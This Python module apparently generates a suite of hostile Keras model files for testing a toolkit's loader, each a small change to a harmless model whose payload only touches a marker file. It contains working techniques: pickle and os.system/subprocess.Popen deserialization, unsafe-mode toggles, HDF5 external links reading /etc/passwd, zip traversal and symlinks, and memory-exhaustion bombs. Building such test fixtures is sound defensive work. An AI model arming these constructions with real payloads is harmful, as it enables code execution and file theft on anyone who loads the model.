"""Hostile model files, each a small change to a harmless one. A payload would do no more than create a marker file."""

from __future__ import annotations

import io
import json
import os
import pickle
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import h5py
import numpy as np

from mlp_toolkit.model.backend import keras
from mlp_toolkit.storage import saving

LAYERS = keras.layers
NOT_RUN = "not run here: "


class Attack(NamedTuple):
    """One hostile file.

    Attributes:
        title: What it does, for the table.
        suffix: .h5 or .keras.
        make: Changes the file at a path; the second argument is the marker's path.
        cve: Of the hole that it goes through or went through.
        keras: What Keras does, where running it would take too much.
    """

    title: str
    suffix: str
    make: Callable[[Path, Path], None]
    cve: str = ""
    keras: str = ""


def bases(folder: Path) -> None:
    """Two harmless files of the same network, base.h5 and base.keras."""
    keras.utils.set_random_seed(0)
    inputs = keras.Input((4,), name="x")
    hidden = LAYERS.Dense(4, "relu", name="hidden")(inputs)
    hidden = LAYERS.BatchNormalization(name="norm")(hidden)
    model = keras.Model(inputs, LAYERS.Dense(4, name="out")(hidden), name="base")
    model.compile("adam", "mse", metrics=[keras.metrics.MeanAbsoluteError(name="mae")])
    model.train_on_batch(np.ones((4, 4), "float32"), np.ones((4, 4), "float32"))
    saving.save(model, folder / "base.h5")
    model.save(folder / "base.keras")


# Ways to change a file.


def in_file(change: Callable[[h5py.File], None]) -> Callable[[Path, Path], None]:
    def make(path: Path, marker: Path) -> None:
        with h5py.File(path, "r+") as file:
            change(file)

    return make


def rewritten(path: Path, change: Callable[[dict[str, bytes]], None]) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def in_config(change: Callable[[dict[str, Any], Path], None]) -> Callable[[Path, Path], None]:
    """Changes the architecture of either kind of file."""

    def make(path: Path, marker: Path) -> None:
        if path.suffix == ".keras":

            def inside(parts: dict[str, bytes]) -> None:
                config = json.loads(parts["config.json"])
                change(config, marker)
                parts["config.json"] = json.dumps(config).encode()

            rewritten(path, inside)
            return
        with h5py.File(path, "r+") as file:
            config = json.loads(file.attrs["model_config"])
            change(config, marker)
            file.attrs["model_config"] = json.dumps(config)

    return make


def in_compile(change: Callable[[dict[str, Any], Path], None]) -> Callable[[Path, Path], None]:
    """Changes the compile arguments, wherever a file keeps them."""

    def make(path: Path, marker: Path) -> None:
        if path.suffix == ".keras":
            in_config(lambda config, marker: change(config["compile_config"], marker))(path, marker)
            return
        with h5py.File(path, "r+") as file:
            for holder, name in ((file, "training_config"), (file["mlp_toolkit"], "compile_config")):
                config = json.loads(holder.attrs[name])
                config.setdefault("optimizer", config.get("optimizer_config"))
                change(config, marker)
                if "optimizer_config" in config:
                    config["optimizer_config"] = config.pop("optimizer")
                holder.attrs[name] = json.dumps(config)

    return make


def in_weights(change: Callable[[h5py.File], None]) -> Callable[[Path, Path], None]:
    """Changes the HDF5 file inside an archive."""

    def make(path: Path, marker: Path) -> None:
        def inside(parts: dict[str, bytes]) -> None:
            held = io.BytesIO(parts["model.weights.h5"])
            with h5py.File(held, "r+") as file:
                change(file)
            parts["model.weights.h5"] = held.getvalue()

        rewritten(path, inside)

    return make


def members(change: Callable[[dict[str, bytes]], None]) -> Callable[[Path, Path], None]:
    return lambda path, marker: rewritten(path, change)


def instead(contents: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
    return lambda path, marker: path.write_bytes(contents(marker)) and None


def raw_config(text: str) -> Callable[[Path, Path], None]:
    """Another text in the place of the architecture."""

    def make(path: Path, marker: Path) -> None:
        if path.suffix == ".keras":
            rewritten(path, lambda parts: parts.update({"config.json": text.encode()}))
        else:
            in_file(lambda file: file.attrs.__setitem__("model_config", text))(path, marker)

    return make


# Architectures.


def layers_of(config: dict[str, Any]) -> list[Any]:
    return config["config"]["layers"]


def hidden(config: dict[str, Any]) -> dict[str, Any]:
    return layers_of(config)[1]


def function(module: str, name: str, **more: Any) -> dict[str, Any]:
    return {"class_name": "function", "module": module, "config": name, "registered_name": name, **more}


def activation(module: str, name: str) -> Callable[[dict[str, Any], Path], None]:
    def change(config: dict[str, Any], marker: Path) -> None:
        hidden(config)["config"]["activation"] = function(module, name)

    return change


def layer(class_name: str, home: str | None = None, registered: str | None = None, **settings: Any) -> Any:
    """Another layer in the place of the hidden one; "MARKER" in its settings becomes the marker's path."""

    def change(config: dict[str, Any], marker: Path) -> None:
        node = hidden(config)
        own = json.loads(json.dumps(settings, default=str).replace("MARKER", str(marker)))
        node.update({"class_name": class_name, "config": {**own, "name": "hidden"}, "registered_name": registered})
        node.pop("build_config", None)
        if home is not None:
            node["module"] = home

    return change


def setting(key: str, value: Any) -> Callable[[dict[str, Any], Path], None]:
    def change(config: dict[str, Any], marker: Path) -> None:
        hidden(config)["config"][key] = json.loads(json.dumps(value).replace("MARKER", str(marker)))

    return change


def bytecode(path: Path, marker: Path) -> None:
    """A real Lambda layer, as Keras itself writes it."""
    names = {"marker": str(marker)}
    exec(f"def payload(x):\n    open({names['marker']!r}, 'w').close()\n    return x", names)
    model = keras.Sequential([keras.Input((3,)), LAYERS.Lambda(lambda x: x, name="hidden")], name="base")
    model.layers[0].function = names["payload"]
    model.layers[0].function.__name__ = "<lambda>"
    with saving.quiet_keras():
        model.save(path)


LAMBDA = {"function": function("keras.config", "set_epsilon"), "arguments": {}}


def chain(config: dict[str, Any], inputs: int, *layers: dict[str, Any]) -> None:
    """A Sequential model in the place of the whole."""
    start = {"class_name": "InputLayer", "config": {"batch_shape": [None, inputs], "name": "x"}}
    nodes = [start, *layers]
    if "module" in config:
        nodes = [{"module": "keras.layers", "registered_name": None, **node} for node in nodes]
        config.pop("compile_config", None)
        config |= {"module": "keras", "registered_name": "Sequential"}
    config.update({"class_name": "Sequential", "config": {"name": "base", "layers": nodes}})


def dense(index: int = 0, units: int = 4) -> dict[str, Any]:
    return {"class_name": "Dense", "config": {"name": f"d{index}", "units": units}}


def lambda_of_a_name(config: dict[str, Any], marker: Path) -> None:
    chain(config, 4, {"class_name": "Lambda", "config": {"name": "hidden", **LAMBDA}})


def vocabulary(kind: Any, source: str) -> Callable[[dict[str, Any], Path], None]:
    return lambda config, marker: layer(kind.__name__, "keras.layers", **kind().get_config() | {"vocabulary": source})(
        config, marker
    )


def many_layers(config: dict[str, Any], marker: Path) -> None:
    chain(config, 4, *map(dense, range(1000)))


def long_inside(config: dict[str, Any], marker: Path) -> None:
    inner: dict[str, Any] = {}
    chain(inner, 4, *map(dense, range(200)))
    chain(config, 4, inner)


def huge_layer(config: dict[str, Any], marker: Path) -> None:
    chain(config, 20_000, dense(units=20_000))


def embedding(config: dict[str, Any], marker: Path) -> None:
    settings = {"name": "e", "input_dim": 10**9, "output_dim": 64}
    chain(config, 4, {"class_name": "Embedding", "config": settings})


def models_in_models(config: dict[str, Any], marker: Path) -> None:
    """Each model calls the one inside it ten times: 10 ** 6 layers in 6 kB."""

    def node(before: str, count: int) -> dict[str, Any]:
        tensor = {"shape": [None, 3], "dtype": "float32", "keras_history": [before, count, 0]}
        return {"args": [{"class_name": "__keras_tensor__", "config": tensor}], "kwargs": {}}

    inner: dict[str, Any] = {"class_name": "Activation", "config": {"name": "a0", "activation": "relu"}, "name": "a0"}
    for depth in range(1, 7):
        name = f"a{depth - 1}"
        inner["inbound_nodes"] = [node("x", 0), *(node(name, count) for count in range(9))]
        start = {"class_name": "InputLayer", "config": {"batch_shape": [None, 3], "name": "x"}, "name": "x"}
        start["inbound_nodes"] = []
        whole = {"name": f"a{depth}", "layers": [start, inner]}
        whole |= {"input_layers": [["x", 0, 0]], "output_layers": [[name, 9, 0]]}
        inner = {"class_name": "Functional", "config": whole, "name": f"a{depth}"}
    config.update({"class_name": "Functional", "config": inner["config"]})


def circle(config: dict[str, Any], marker: Path) -> None:
    tensor = hidden(config)["inbound_nodes"][0]["args"][0]["config"]
    tensor["keras_history"][0] = "out"


# Contents of HDF5 files.


def kernel(file: h5py.File) -> tuple[h5py.Group, str]:
    """The place of the first kernel, (4, 4) numbers."""
    found: list[str] = []
    file.visititems(lambda name, item: found.append(name) if getattr(item, "shape", None) == (4, 4) else None)
    place, _, name = next(name for name in found if "optimizer" not in name).rpartition("/")
    return file[place], name


def replaced(value: Any) -> Callable[[h5py.File], None]:
    """Another value in the place of the first kernel, (4, 4)."""

    def change(file: h5py.File) -> None:
        group, name = kernel(file)
        del group[name]
        group[name] = value

    return change


def external_link(file: h5py.File) -> None:
    replaced(h5py.ExternalLink("other.h5", "/secret"))(file)


def soft_link(file: h5py.File) -> None:
    group, name = kernel(file)
    group.move(name, "real")
    group[name] = h5py.SoftLink("real")


def external_values(file: h5py.File) -> None:
    group, name = kernel(file)
    del group[name]
    group.create_dataset(name, (4, 4), "float32", external=[("/etc/passwd", 0, 64)])


def virtual(file: h5py.File) -> None:
    group, name = kernel(file)
    del group[name]
    layout = h5py.VirtualLayout((4, 4), "float32")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", (4, 4))
    group.create_virtual_dataset(name, layout)


def large(inputs: int, units: int, **options: Any) -> Callable[[Path, Path], None]:
    """A network whose one kernel takes as much memory, and so many zeros that the file does not hold."""

    def make(path: Path, marker: Path) -> None:
        in_config(lambda config, marker: chain(config, inputs, dense(units=units)))(path, marker)

        def change(file: h5py.File) -> None:
            if "model_weights" in file:
                del file["model_weights"], file["optimizer_weights"]
                group = file.create_group("model_weights/d0")
                file["model_weights"].attrs["layer_names"] = [b"d0"]
                group.attrs["weight_names"] = [b"kernel", b"bias"]
                del file.attrs["training_config"], file["mlp_toolkit"].attrs["compile_config"]
                names = ["kernel", "bias"]
            else:
                group, names = file["layers/dense/vars"], ["0", "1"]
                del group["0"], group["1"]
            kernel = group.create_dataset(names[0], (inputs, units), "float32", **options)
            group[names[1]] = np.zeros(units, "float32")
            if options.get("compression"):
                kernel[...] = np.zeros((inputs, units), "float32")

        (in_weights if path.suffix == ".keras" else in_file)(change)(path, marker)

    return make


def wide_row(path: Path, marker: Path) -> None:
    repeat = {"class_name": "RepeatVector", "config": {"name": "repeat", "n": 250_000_000}}
    in_config(lambda config, marker: chain(config, 4, repeat))(path, marker)
    with h5py.File(path, "r+") as file:
        del file["model_weights"], file.attrs["training_config"], file["mlp_toolkit"].attrs["compile_config"]
        file.create_group("model_weights").attrs["layer_names"] = np.zeros(0)


def listed_often(file: h5py.File) -> None:
    group, name = kernel(file)
    for index in range(2000):
        group[f"again{index}"] = group[name]


def circular(file: h5py.File) -> None:
    file["model_weights"]["again"] = file["model_weights"]


def committed(file: h5py.File) -> None:
    group, name = kernel(file)
    file["kind"] = np.dtype("float32")
    del group[name]
    group.create_dataset(name, (4, 4), file["kind"])


def references(file: h5py.File) -> None:
    group, name = kernel(file)
    target = group[name].ref
    group.create_dataset("pointer", data=target, dtype=h5py.ref_dtype)


def words(file: h5py.File) -> None:
    group, _ = kernel(file)
    group.create_dataset("words", data=["a", "b"], dtype=h5py.string_dtype())


def many_attributes(file: h5py.File) -> None:
    file.attrs["pickle"] = np.void(pickle.dumps(print))


def not_a_number(value: float) -> Callable[[h5py.File], None]:
    def change(file: h5py.File) -> None:
        group, name = kernel(file)
        group[name][0, 0] = value

    return change


def other_order(file: h5py.File) -> None:
    attributes = file["model_weights"].attrs
    attributes["layer_names"] = attributes["layer_names"][::-1]


def other_order_of_weights(file: h5py.File) -> None:
    attributes = file["model_weights/norm"].attrs
    attributes["weight_names"] = attributes["weight_names"][[1, 0, 2, 3]]


def names_as_numbers(file: h5py.File) -> None:
    file["model_weights"].attrs["layer_names"] = np.arange(4.0)


def short_state(file: h5py.File) -> None:
    attributes = file["optimizer_weights"].attrs
    attributes["weight_names"] = attributes["weight_names"][:-1]


def state_of_others(file: h5py.File) -> None:
    group = file["optimizer_weights"]
    name = group.attrs["weight_names"][2]
    del group[name]
    group[name] = np.zeros(1_000_000, "float32")


# Archives.


def bomb(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data + b" " * 300_000_000 if name == "config.json" else data)


def symlink(path: Path, marker: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        del parts["metadata.json"]

    rewritten(path, change)
    with zipfile.ZipFile(path, "a") as archive:
        part = zipfile.ZipInfo("metadata.json")
        part.create_system, part.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(part, "/etc/passwd")


def twice(path: Path, marker: Path) -> None:
    import warnings

    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("config.json", b"{}")


def truncated(path: Path, marker: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


class _Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return (os.system, (f"touch {self.marker}",))


def pickled(marker: Path) -> bytes:
    return pickle.dumps(_Payload(marker))


DEEP = '{"class_name": "Functional", "config": ' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "}"
HALF_DEEP = '{"class_name": "Functional", "config": ' + '{"a":' * 200 + "1" + "}" * 200 + "}"
LONG_NUMBER = '{"class_name": "Functional", "config": {"layers": [' + "9" * 100_000 + "]}}"
TWICE = '{"class_name": "Functional", "config": {"layers": []}, "class_name": "Lambda"}'
EVIL = {"class_name": "Popen", "module": "subprocess", "config": {"args": ["touch", "MARKER"]}}

LOADS_MUCH = "loads, with the memory it asks for"
H5, KERAS = ".h5", ".keras"


def _both(title: str, make: Any, cve: str = "", keras_does: str = "") -> list[Attack]:
    return [Attack(title, suffix, make, cve, keras_does) for suffix in (H5, KERAS)]


ATTACKS = [
    # Code.
    Attack("Lambda layer with bytecode", H5, bytecode, "CVE-2025-9905"),
    Attack("Lambda layer with bytecode", KERAS, bytecode),
    *_both("Lambda layer that names a public function of Keras, which sets a global value",
           in_config(lambda_of_a_name)),
    *_both("activation `os.system`", in_config(activation("os", "system")), "CVE-2025-1550"),
    Attack("activation `builtins.eval`", KERAS, in_config(activation("builtins", "eval")), "CVE-2025-1550"),
    Attack("activation `tensorflow.io.write_file`", KERAS, in_config(activation("tensorflow.io", "write_file")),
           "CVE-2025-1550"),
    Attack("activation `keras.utils.get_file`", KERAS, in_config(activation("keras.utils", "get_file")),
           "CVE-2025-8747"),
    Attack("activation that switches Keras's safe mode off", KERAS,
           in_config(activation("keras.config", "enable_unsafe_deserialization")), "CVE-2025-9906"),
    Attack("activation of any public name of Keras, called at the first prediction", KERAS, in_config(activation("keras.config", "set_epsilon"))),
    Attack("activation out of a private module of Keras", KERAS,
           in_config(activation("keras.src.utils.python_utils", "func_load"))),
    *_both("a layer that is `subprocess.Popen`", in_config(layer("Popen", "subprocess", args=["touch", "MARKER"])),
           "CVE-2025-1550"),
    *_both("an initializer that is `subprocess.Popen`", in_config(setting("kernel_initializer", EVIL)),
           "CVE-2025-1550"),
    *_both("a regularizer that is `subprocess.Popen`", in_config(setting("kernel_regularizer", EVIL)),
           "CVE-2025-1550"),
    *_both("a constraint that is `subprocess.Popen`", in_config(setting("bias_constraint", EVIL)), "CVE-2025-1550"),
    Attack("a Lambda hidden in an initializer", H5, in_config(setting("kernel_initializer",
           {"class_name": "Lambda", "module": "keras.layers", "config": LAMBDA}))),
    Attack("a layer where an initializer belongs", KERAS, in_config(setting("kernel_initializer",
           {"class_name": "Dense", "module": "keras.layers", "config": {"units": 3}, "registered_name": None}))),
    Attack("a class named by its module's path", KERAS, in_config(layer("keras.src.layers.core.dense.Dense", units=4))),
    Attack("a class of a module that is imported for it", KERAS, in_config(layer("Dense", "antigravity", units=4))),
    Attack("one of Keras's names, registered as another", KERAS,
           in_config(layer("Dense", "keras.layers", "mlp_toolkit>Numbers", units=4))),
    Attack("a class that nobody registered", H5, in_config(layer("Backdoor>Layer"))),
    Attack("TFSMLayer, which loads a SavedModel", KERAS,
           in_config(layer("TFSMLayer", "keras.layers", filepath="MARKER")), "CVE-2026-1462"),
    Attack("TorchModuleWrapper, which unpickles", KERAS, in_config(layer("TorchModuleWrapper", "keras.layers",
           module={"class_name": "__bytes__", "config": {"value": "gASV"}})), "CVE-2025-49655"),
    Attack("JaxLayer, which calls a function", KERAS,
           in_config(layer("JaxLayer", "keras.layers", call_fn=function("os", "system")))),
    # Other files.
    *_both("StringLookup with the path of a file as vocabulary",
           in_config(vocabulary(LAYERS.StringLookup, "/etc/passwd")), "CVE-2025-12058"),
    Attack("IntegerLookup with an address on the network as vocabulary", KERAS,
           in_config(vocabulary(LAYERS.IntegerLookup, "http://127.0.0.1:9/v")), "CVE-2025-12058"),
    Attack("TextVectorization with the path of a file as vocabulary", KERAS,
           in_config(vocabulary(LAYERS.TextVectorization, "/etc/passwd")), "CVE-2025-12058"),
    Attack("a weight that is a link to another file", H5, in_file(external_link)),
    Attack("a weight that is a link to another file", KERAS, in_weights(external_link)),
    Attack("a weight that is a link within the file", H5, in_file(soft_link)),
    Attack("a weight whose values lie in /etc/passwd", H5, in_file(external_values), "CVE-2026-1669"),
    Attack("a weight whose values lie in /etc/passwd", KERAS, in_weights(external_values), "CVE-2026-1669"),
    Attack("a weight that is a view of another file", H5, in_file(virtual)),
    # Memory and time.
    *_both("a compressed weight, 240 MB in less than 1", large(12_000, 5_000, compression="gzip", chunks=(1000, 1000))),
    *_both("240 MB of weights that were never written", large(12_000, 5_000), "CVE-2026-0897"),
    *_both("240 MB in chunks that were never written", large(12_000, 5_000, chunks=(1000, 1000)), "CVE-2026-0897"),
    Attack("16 GB of weights that were never written", H5, large(64_000, 64_000), "CVE-2026-0897", "asks for 16 GB before it refuses"),
    Attack("one weight listed 2,000 times", H5, in_file(listed_often)),
    Attack("a group that lies in itself", H5, in_file(circular)),
    *_both("a layer of 20,000 × 20,000 neurons in the configuration",
           in_config(huge_layer), "", "takes 5.2 GB and 41 s, then refuses"),
    *_both("an embedding of a billion words", in_config(embedding), "", "asks for 256 GB"),
    Attack("a layer that gives a billion numbers a row", H5, wide_row),
    Attack("a layer of 2^62 neurons", H5, in_config(layer("Dense", units=2**62))),
    *_both("1,000 layers", in_config(many_layers), "", "computes for minutes, then fails"),
    Attack("200 layers in a model in a model", H5, in_config(long_inside), "", "computes for half a minute"),
    Attack("models in models, a million layers in all", H5, in_config(models_in_models), "", "computes without end"),
    Attack("layers in a circle", H5, in_config(circle)),
    *_both("a configuration nested 100,000 deep", raw_config(DEEP)),
    Attack("a configuration nested 200 deep", H5, raw_config(HALF_DEEP)),
    *_both("a number of 100,000 digits", raw_config(LONG_NUMBER)),
    *_both("a name twice in one mapping", raw_config(TWICE)),
    Attack("a metric of 100,000 × 100,000 counters", H5, in_compile(lambda config, marker: config.update(metrics=[
           {"class_name": "MeanIoU", "module": "keras.metrics", "config": {"num_classes": 100_000}}])),
           "", "asks for 80 GB"),
    # Compile arguments.
    *_both("a loss `os.system`", in_compile(lambda c, marker: c.update(loss=function("os", "system")))),
    *_both("an optimizer that is `subprocess.Popen`", in_compile(lambda config, marker: config.update(
           optimizer={"class_name": "Popen", "module": "subprocess", "config": {"args": ["touch", str(marker)]}}))),
    *_both("a metric that is a Lambda layer", in_compile(lambda config, marker: config.update(
           metrics=[{"class_name": "Lambda", "module": "keras.layers", "config": LAMBDA}]))),
    Attack("a learning rate that is a class of another module", H5, in_compile(
           lambda config, marker: config["optimizer"]["config"].update(
               learning_rate={"class_name": "Popen", "module": "subprocess", "config": {"args": ["x"]}}))),
    # Wrong weights.
    Attack("weights in another order of layers", H5, in_file(other_order)),
    Attack("weights in another order in a layer", H5, in_file(other_order_of_weights)),
    Attack("NaN among the weights", H5, in_file(not_a_number(np.nan))),
    Attack("NaN among the weights", KERAS, in_weights(not_a_number(np.nan))),
    Attack("infinity among the weights", H5, in_file(not_a_number(np.inf))),
    Attack("complex weights", H5, in_file(replaced(np.zeros((4, 4), complex)))),
    Attack("complex weights", KERAS, in_weights(replaced(np.zeros((4, 4), complex)))),
    Attack("a weight of another shape", H5, in_file(replaced(np.zeros((4, 5), "float32")))),
    Attack("a weight of another type", H5, in_file(replaced(np.zeros((4, 4), "int64")))),
    Attack("a weight of a type that the file declares elsewhere", H5, in_file(committed)),
    Attack("references to objects", H5, in_file(references)),
    Attack("texts among the weights", H5, in_file(words)),
    Attack("a pickle in an attribute", H5, in_file(many_attributes)),
    Attack("numbers for names", H5, in_file(names_as_numbers)),
    Attack("a part of the optimizer's state missing", H5, in_file(short_state)),
    Attack("an optimizer's state of another size", H5, in_file(state_of_others)),
    Attack("a list for a configuration", H5, raw_config("[]")),
    Attack("no text for a configuration", H5, in_file(lambda file: file.attrs.__setitem__("model_config", 1.5))),
    # Files that are something else.
    Attack("an archive that unpacks to 300 MB", KERAS, bomb),
    Attack("an archive with a path out of its folder", KERAS,
           members(lambda parts: parts.update({"../../escaped": b"x"}))),
    Attack("an archive with another file", KERAS, members(lambda parts: parts.update({"assets/run.py": b"x"}))),
    Attack("an archive with a symbolic link", KERAS, symlink),
    Attack("an archive with a file twice", KERAS, twice),
    Attack("an archive with a pickle for weights", KERAS,
           lambda path, marker: rewritten(path, lambda parts: parts.update({"model.weights.h5": pickled(marker)}))),
    Attack("a pickle", H5, instead(pickled)),
    Attack("a pickle", KERAS, instead(pickled)),
    Attack("a file that breaks off", H5, truncated),
    Attack("a file that breaks off", KERAS, truncated),
]  # fmt: skip  # as a table, several to a line
